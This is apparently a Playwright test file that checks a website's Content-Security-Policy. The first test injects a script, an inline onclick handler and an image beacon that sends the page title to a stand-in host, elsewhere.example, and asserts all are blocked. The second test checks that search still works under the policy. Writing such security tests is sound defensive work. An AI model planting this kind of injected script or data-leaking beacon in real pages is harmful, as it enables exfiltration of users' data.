"""The Content-Security-Policy at work: what somebody else put into a page is stopped.

That nothing of ours is stopped on any page, the reader of test_accessibility.py notes: a violation is an error of the
console, and so a fault.
"""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from tests.browser.conftest import Reader
from tests.browser.places import POST


def test_what_was_put_into_a_page_does_not_run_and_reaches_nobody(reader: Callable[..., Reader]) -> None:
    somebody = reader()
    page = somebody.open(POST)
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.stolen = true";
          document.body.append(script);
          const picture = document.createElement("img");
          picture.src = "https://elsewhere.example/?page=" + encodeURIComponent(document.title);
          document.body.append(picture);
          const button = document.createElement("p");
          button.setAttribute("onclick", "window.stolen = true");
          document.body.append(button);
          button.click();
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.stolen") is None
    stopped = [fault for fault in somebody.faults if "Content Security Policy" in fault]
    assert len(stopped) >= 3
    somebody.faults.clear()


def test_the_search_runs_under_it(reader: Callable[..., Reader]) -> None:
    page = reader(viewport={"width": 1440, "height": 900}).open("about/")
    page.wait_for_load_state("networkidle")
    page.keyboard.press("/")
    page.get_by_role("combobox", name="Search").fill("tombstone")
    expect(page.locator(".search-hits li").first).to_be_visible()
